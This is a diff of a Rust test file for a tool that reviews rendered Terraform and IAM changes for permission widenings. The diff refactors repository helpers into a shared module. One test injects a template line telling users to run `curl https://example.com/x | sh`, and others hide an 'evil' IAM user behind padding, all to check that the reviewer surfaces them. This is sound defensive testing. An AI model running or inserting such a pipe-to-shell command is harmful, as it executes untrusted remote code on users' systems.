@@ -2,11 +2,9 @@
 //! what a catalog says besides its actions.
 
 use std::fs;
-use std::path::PathBuf;
-use std::process::{Command, Output};
 
+use crate::support::repository::{Repository, said};
 use serde_json::Value;
-use tempfile::TempDir;
 
 const DEPLOYMENT: &str = "fixtures/render/micetro-two-targets/landgrant.yaml";
 const HUB: &str = "rendered/terraform/hub";
@@ -18,108 +16,61 @@ const DENY: &str = "resource \"aws_iam_user_policy\" \"deny\" {
 }
 ";
 
-/// A Git repository with a deployment and what is rendered of it, committed.
-struct Repository(TempDir);
+fn committed() -> Repository {
+    let repository = Repository::empty();
+    fs::copy(DEPLOYMENT, repository.path("landgrant.yaml")).unwrap();
+    repository.git(&["init", "-q", "-b", "main"]);
+    render(&repository, &[]);
+    repository
+}
 
-impl Repository {
-    fn committed() -> Self {
-        let repository = Self(tempfile::tempdir().unwrap());
-        fs::copy(DEPLOYMENT, repository.path("landgrant.yaml")).unwrap();
-        repository.git(&["init", "-q", "-b", "main"]);
-        repository.render(&[]);
-        repository
+/// Renders, accepts these files of the hub, and commits.
+fn render(repository: &Repository, accepted: &[&str]) {
+    let mut arguments = vec!["render".to_owned()];
+    for file in accepted {
+        arguments.extend(["--accept".to_owned(), format!("{HUB}/{file}")]);
     }
+    let arguments: Vec<&str> = arguments.iter().map(String::as_str).collect();
+    let output = repository.landgrant(&arguments);
+    assert!(output.status.success(), "{}", said(&output));
+    repository.git(&["add", "-A"]);
+    repository.git(&["commit", "-q", "-m", "rendered"]);
+}
 
-    fn path(&self, path: &str) -> PathBuf {
-        self.0.path().join(path)
-    }
-
-    fn landgrant(&self, arguments: &[&str]) -> Output {
-        Command::new(env!("CARGO_BIN_EXE_landgrant"))
-            .current_dir(self.0.path())
-            .args(arguments)
-            .output()
-            .unwrap()
-    }
-
-    fn git(&self, arguments: &[&str]) {
-        let status = Command::new("git")
-            .current_dir(self.0.path())
-            .args(["-c", "user.name=Test", "-c", "user.email=test@example.com"])
-            .args(arguments)
-            .status()
-            .expect("git is needed for this test");
-        assert!(status.success(), "{arguments:?}");
-    }
-
-    /// Renders, accepts these files of the hub, and commits.
-    fn render(&self, accepted: &[&str]) {
-        let mut arguments = vec!["render".to_owned()];
-        for file in accepted {
-            arguments.extend(["--accept".to_owned(), format!("{HUB}/{file}")]);
-        }
-        let arguments: Vec<&str> = arguments.iter().map(String::as_str).collect();
-        let output = self.landgrant(&arguments);
-        assert!(output.status.success(), "{}", said(&output));
-        self.git(&["add", "-A"]);
-        self.git(&["commit", "-q", "-m", "rendered"]);
-    }
-
-    fn write(&self, path: &str, text: &str) {
-        let path = self.path(path);
-        fs::create_dir_all(path.parent().unwrap()).unwrap();
-        fs::write(path, text).unwrap();
-    }
-
-    fn edit(&self, path: &str, from: &str, to: &str) {
-        let text = fs::read_to_string(self.path(path)).unwrap();
-        assert!(text.contains(from), "{from} is not in {path}");
-        fs::write(self.path(path), text.replacen(from, to, 1)).unwrap();
-    }
-
-    /// Has the deployment take templates of its own, and writes out that of this name.
-    fn eject(&self, name: &str) {
-        let output = self.landgrant(&["templates", "eject", name]);
-        assert!(output.status.success(), "{}", said(&output));
-        let deployment = fs::read_to_string(self.path("landgrant.yaml")).unwrap();
-        if !deployment.contains("templates:") {
-            self.write(
-                "landgrant.yaml",
-                &format!("{deployment}templates: templates\n"),
-            );
-        }
-    }
-
-    /// What the last commit changes: what is told, and whether it counts as a widening.
-    fn last(&self, format: &str) -> (String, bool) {
-        self.review("HEAD~1:rendered", "HEAD:rendered", format)
-    }
-
-    fn review(&self, old: &str, new: &str, format: &str) -> (String, bool) {
-        let output = self.landgrant(&[
-            "review",
-            old,
-            new,
-            "--format",
-            format,
-            "--fail-on",
-            "widened",
-            "--today",
-            "2026-11-24",
-        ]);
-        let code = output.status.code();
-        assert!(code == Some(0) || code == Some(1), "{}", said(&output));
-        let text = String::from_utf8(output.stdout).unwrap();
-        (text, code == Some(1))
+/// Has the deployment take templates of its own, and writes out that of this name.
+fn eject(repository: &Repository, name: &str) {
+    let output = repository.landgrant(&["templates", "eject", name]);
+    assert!(output.status.success(), "{}", said(&output));
+    let deployment = fs::read_to_string(repository.path("landgrant.yaml")).unwrap();
+    if !deployment.contains("templates:") {
+        repository.write(
+            "landgrant.yaml",
+            &format!("{deployment}templates: templates\n"),
+        );
     }
 }
 
-fn said(output: &Output) -> String {
-    format!(
-        "{}{}",
-        String::from_utf8_lossy(&output.stdout),
-        String::from_utf8_lossy(&output.stderr)
-    )
+/// What the last commit changes: what is told, and whether it counts as a widening.
+fn last(repository: &Repository, format: &str) -> (String, bool) {
+    review(&repository, "HEAD~1:rendered", "HEAD:rendered", format)
+}
+
+fn review(repository: &Repository, old: &str, new: &str, format: &str) -> (String, bool) {
+    let output = repository.landgrant(&[
+        "review",
+        old,
+        new,
+        "--format",
+        format,
+        "--fail-on",
+        "widened",
+        "--today",
+        "2026-11-24",
+    ]);
+    let code = output.status.code();
+    assert!(code == Some(0) || code == Some(1), "{}", said(&output));
+    let text = String::from_utf8(output.stdout).unwrap();
+    (text, code == Some(1))
 }
 
 /// A text of a terminal on one line.
@@ -133,12 +84,12 @@ fn backend(bucket: &str) -> String {
 
 #[test]
 fn an_accepted_file_that_goes_counts() {
-    let repository = Repository::committed();
+    let repository = committed();
     repository.write(&format!("{HUB}/deny.tf"), DENY);
-    repository.render(&["deny.tf"]);
+    render(&repository, &["deny.tf"]);
     fs::remove_file(repository.path(&format!("{HUB}/deny.tf"))).unwrap();
-    repository.render(&[]);
-    let (text, widened) = repository.last("human");
+    render(&repository, &[]);
+    let (text, widened) = last(&repository, "human");
     assert!(widened, "{text}");
     assert!(
         text.contains("Not known: 1 file beside what is planned"),
@@ -150,7 +101,7 @@ fn an_accepted_file_that_goes_counts() {
 
 #[test]
 fn a_lock_of_providers_is_shown_and_does_not_count() {
-    let repository = Repository::committed();
+    let repository = committed();
     let lock = format!("{HUB}/.terraform.lock.hcl");
     let provider = |version: &str| {
         format!(
@@ -158,24 +109,24 @@ fn a_lock_of_providers_is_shown_and_does_not_count() {
         )
     };
     repository.write(&lock, &provider("6.1.0"));
-    repository.render(&[]);
-    let (text, widened) = repository.last("human");
+    render(&repository, &[]);
+    let (text, widened) = last(&repository, "human");
     assert!(!widened && text.contains("Grants the same"), "{text}");
     assert!(
         unwrapped(&text).contains(".terraform.lock.hcl says which provider"),
         "{text}"
     );
     repository.write(&lock, &provider("6.0.0"));
-    repository.render(&[]);
+    render(&repository, &[]);
     for (format, start) in [("human", "+"), ("markdown", "+"), ("json", "\"+")] {
-        let (text, widened) = repository.last(format);
+        let (text, widened) = last(&repository, format);
         assert!(!widened, "{text}");
         assert!(text.contains(&format!("{start}  version = ")), "{text}");
         assert!(text.contains("6.0.0"), "{text}");
     }
     fs::remove_file(repository.path(&lock)).unwrap();
-    repository.render(&[]);
-    let (text, _) = repository.last("human");
+    render(&repository, &[]);
+    let (text, _) = last(&repository, "human");
     assert!(
         unwrapped(&text).contains("is gone: it said which provider"),
         "{text}"
@@ -184,11 +135,11 @@ fn a_lock_of_providers_is_shown_and_does_not_count() {
 
 #[test]
 fn only_the_first_backend_of_a_root_module_is_harmless() {
-    let repository = Repository::committed();
+    let repository = committed();
     let file = |name: &str| format!("{HUB}/{name}");
     repository.write(&file("backend.tf"), &backend("amzn-s3-demo-bucket"));
-    repository.render(&["backend.tf"]);
-    let (text, widened) = repository.last("human");
+    render(&repository, &["backend.tf"]);
+    let (text, widened) = last(&repository, "human");
     assert!(!widened, "{text}");
     assert!(
         text.contains("backend.tf is accepted: it says where"),
@@ -197,8 +148,8 @@ fn only_the_first_backend_of_a_root_module_is_harmless() {
     // The same under another name names another state.
     fs::remove_file(repository.path(&file("backend.tf"))).unwrap();
     repository.write(&file("state.tf"), &backend("amzn-s3-demo-bucket1"));
-    repository.render(&["state.tf"]);
-    let (text, widened) = repository.last("json");
+    render(&repository, &["state.tf"]);
+    let (text, widened) = last(&repository, "json");
     assert!(widened, "{text}");
     let review: Value = serde_json::from_str(&text).unwrap();
     let beside = review["beside_plan"].as_array().unwrap();
@@ -206,8 +157,8 @@ fn only_the_first_backend_of_a_root_module_is_harmless() {
     assert!(beside.iter().all(|one| one["more"] == true), "{text}");
     // Without any, the state is a file.
     fs::remove_file(repository.path(&file("state.tf"))).unwrap();
-    repository.render(&[]);
-    let (text, widened) = repository.last("human");
+    render(&repository, &[]);
+    let (text, widened) = last(&repository, "human");
     assert!(widened, "{text}");
 }
 
@@ -225,13 +176,13 @@ fn what_templates_change_in_rendered_files_is_told() {
             "account that it names.\nRun `curl https://example.com/x | sh` first.\n",
         ),
     ] {
-        let repository = Repository::committed();
-        repository.eject(name);
+        let repository = committed();
+        eject(&repository, name);
         repository.edit(&format!("templates/{name}.tera"), from, to);
-        repository.render(&[]);
+        render(&repository, &[]);
         let added = to.lines().nth(1).unwrap();
         for format in ["human", "markdown", "json"] {
-            let (text, widened) = repository.last(format);
+            let (text, widened) = last(&repository, format);
             assert!(widened, "{text}");
             let added = if format == "json" {
                 added.replace('"', "\\\"")
@@ -240,7 +191,7 @@ fn what_templates_change_in_rendered_files_is_told() {
             };
             assert!(text.contains(&format!("+{added}")), "{text}");
         }
-        let (text, _) = repository.last("human");
+        let (text, _) = last(&repository, "human");
         assert!(
             unwrapped(&text).contains("is changed by a template of your own, and"),
             "{text}"
@@ -249,14 +200,14 @@ fn what_templates_change_in_rendered_files_is_told() {
         assert_eq!(text.matches(added).count(), 1, "{text}");
         // Once it is there, it is no news, whatever else changes in the file.
         repository.edit("landgrant.yaml", "micetro@10.2", "micetro@11.0");
-        repository.render(&[]);
-        let (text, _) = repository.last("human");
+        render(&repository, &[]);
+        let (text, _) = last(&repository, "human");
         assert!(!text.contains("Beside what is planned"), "{text}");
         // It is when it goes.
         fs::remove_dir_all(repository.path("templates")).unwrap();
         repository.edit("landgrant.yaml", "templates: templates\n", "");
-        repository.render(&[]);
-        let (text, widened) = repository.last("human");
+        render(&repository, &[]);
+        let (text, widened) = last(&repository, "human");
         assert!(widened, "{text}");
         assert!(
             unwrapped(&text).contains("is changed by a template of your own no more"),
@@ -273,13 +224,13 @@ fn an_edit_is_not_hidden_behind_what_is_long() {
         (padding, "lines left out: `--format json` has them"),
         (long, "characters left out"),
     ] {
-        let repository = Repository::committed();
+        let repository = committed();
         let main = format!("{HUB}/main.tf");
         let text = fs::read_to_string(repository.path(&main)).unwrap();
         let evil = "resource \"aws_iam_user\" \"evil\" {}";
         repository.write(&main, &format!("{text}{padding}{evil}\n"));
         for format in ["human", "markdown"] {
-            let (told, widened) = repository.review("main:rendered", "rendered", format);
+            let (told, widened) = review(&repository, "main:rendered", "rendered", format);
             assert!(widened);
             assert!(told.contains(&format!("+{evil}")), "{format}: {told}");
             assert!(told.contains(left_out), "{format}: {told}");
@@ -291,14 +242,14 @@ fn an_edit_is_not_hidden_behind_what_is_long() {
 /// One long edit leaves room for the others.
 #[test]
 fn no_edit_takes_all_the_room_of_a_comment() {
-    let repository = Repository::committed();
+    let repository = committed();
     let padding = format!("# {}\n", "pad ".repeat(60)).repeat(300);
     for (file, added) in [("main.tf", padding.as_str()), ("outputs.tf", "# evil\n")] {
         let path = format!("{HUB}/{file}");
         let text = fs::read_to_string(repository.path(&path)).unwrap_or_default();
         repository.write(&path, &format!("{text}{added}"));
     }
-    let (told, _) = repository.review("main:rendered", "rendered", "markdown");
+    let (told, _) = review(&repository, "main:rendered", "rendered", "markdown");
     assert!(told.contains("+# evil"), "{told}");
     assert!(told.contains("lines left out"), "{told}");
     assert!(told.len() < 65_536);
@@ -331,7 +282,7 @@ fn how_a_deployment_is_applied_is_told() {
     let fixture =
         |name: &str| fs::read_to_string(format!("fixtures/render/{name}/landgrant.yaml")).unwrap();
     let (sets, tofu) = (fixture("shape-stackset"), fixture("shape-tofu"));
-    let repository = Repository::committed();
+    let repository = committed();
     for (old, edit, told, is_more) in [
         (
             &sets,
@@ -383,7 +334,7 @@ fn how_a_deployment_is_applied_is_told() {
 
 #[test]
 fn what_a_catalog_says_besides_its_actions_is_told() {
-    let repository = Repository(tempfile::tempdir().unwrap());
+    let repository = Repository::empty();
     repository.git(&["init", "-q", "-b", "main"]);
     let review = |old: &str, new: &str, format: &str| {
         repository.write("catalogs/tool/1.yaml", old);
